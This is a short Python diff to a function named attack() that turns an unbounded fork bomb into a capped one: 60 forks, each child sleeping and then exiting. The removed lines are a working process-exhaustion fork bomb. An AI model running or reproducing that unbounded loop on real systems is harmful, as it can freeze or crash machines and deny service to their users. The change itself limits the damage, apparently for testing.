@@ -9,13 +9,13 @@ THROUGH = set()
 def attack():
     started = 0
     try:
-        while started < 2000:
+        while started < 60:  # a bomb that goes off somewhere is not to take the machine with it
             if os.fork() == 0:
-                while True:
-                    try:
-                        os.fork()
-                    except OSError:
-                        time.sleep(0.01)
+                try:
+                    os.fork()
+                finally:
+                    time.sleep(30)
+                    os._exit(0)
             started += 1
     except OSError:
         pass
